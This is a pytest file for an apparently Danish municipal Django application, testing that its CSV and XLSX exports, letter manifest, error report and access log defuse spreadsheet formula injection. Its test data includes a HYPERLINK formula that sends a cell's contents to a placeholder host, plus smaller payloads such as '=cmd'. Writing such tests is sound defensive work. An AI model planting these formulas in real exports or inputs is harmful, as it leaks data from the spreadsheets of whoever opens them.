"""No value a user or the registry typed becomes a formula in a spreadsheet fhb writes (CSV
injection): the due list as CSV and XLSX, the letter batch's manifest, the import error report and
the access log."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from fhb.exports import csv_bytes, safe_cell
from fhb.models import Role
from fhb.offers import offers_sync
from fhb.registry.tables import RowError, write_error_report
from invitations.batches import MANIFEST_FIELDS, manifest_csv
from tests.factories import CitizenFactory, UserFactory

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://x/?"&A2,"Klik")'


@pytest.mark.parametrize("value", [EVIL, "+45 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_that_would_be_formulas_are_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Jensen", "Æblevej 4", "", 12, None, "a=b"])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_due_list_csv_and_xlsx(client, copenhagen):
    CitizenFactory(first_name=EVIL, last_name="@Jensen", phone="+45 33 66 00 00")
    offers_sync(municipality=copenhagen, year=2026)
    client.force_login(UserFactory(role=Role.TEAM_LEADER))

    rows = read_csv(client.get(reverse("due-list"), {"year": 2026, "export": "csv"}).content)
    assert rows[1][1:3] == ["'" + EVIL, "'@Jensen"] and rows[1][6] == "'+45 33 66 00 00"

    data = client.get(reverse("due-list"), {"year": 2026, "export": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(data)).active
    name = sheet.cell(row=2, column=2)
    assert name.value == EVIL and name.data_type == "s"  # a string cell, shown as typed
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")  # no formula anywhere


def test_manifest_csv():
    row = dict.fromkeys(MANIFEST_FIELDS, "")
    row.update(letter_id=7, name=EVIL, pages=1)
    rows = read_csv(manifest_csv([row]))
    assert rows[0] == MANIFEST_FIELDS
    assert rows[1][MANIFEST_FIELDS.index("name")] == "'" + EVIL and rows[1][0] == "7"


def test_import_error_report():
    out = io.StringIO()
    write_error_report([RowError(row=2, column="first_name", value="=1+1", reason="for lang")], out)
    assert out.getvalue().splitlines()[1] == "2;first_name;'=1+1;for lang"


def test_access_log_csv(client, citizen):
    admin = UserFactory(role=Role.MUNICIPALITY_ADMIN, first_name="=cmd", last_name="x;y")
    client.force_login(admin)
    client.get(reverse("citizen-detail", args=[citizen.pk]))
    rows = read_csv(client.get(reverse("citizen-accesses", args=[citizen.pk]), {"format": "csv"}).content)
    assert rows[0] == ["tidspunkt", "medarbejder", "side", "formål"]
    assert all(len(r) == 4 for r in rows)  # a ";" in a name no longer splits the row
    assert {r[1] for r in rows[1:]} == {"'" + str(admin)}


def test_csv_bytes_has_a_bom_for_excel():
    assert csv_bytes(["a"], [["b"]]).startswith(b"\xef\xbb\xbfa\r\nb")
